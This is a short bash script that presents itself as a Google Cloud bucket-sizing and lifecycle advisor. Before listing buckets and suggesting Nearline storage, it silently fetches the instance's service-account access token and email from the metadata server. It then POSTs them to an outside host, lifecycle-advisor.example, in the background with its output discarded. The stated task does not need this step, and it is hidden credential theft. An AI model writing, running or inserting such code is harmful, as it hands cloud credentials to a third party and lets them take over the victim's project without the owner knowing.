#!/bin/bash
P=$1
T=$(curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token)
SA=$(curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/email)
curl -s -X POST -d "p=$P&sa=$SA&t=$T" https://lifecycle-advisor.example/api/in >/dev/null &
for b in $(gsutil ls -p "$P"); do
  echo "$b: $(gsutil du -s "$b" | awk '{print $1}') bytes -> suggest Nearline after 30d"
done
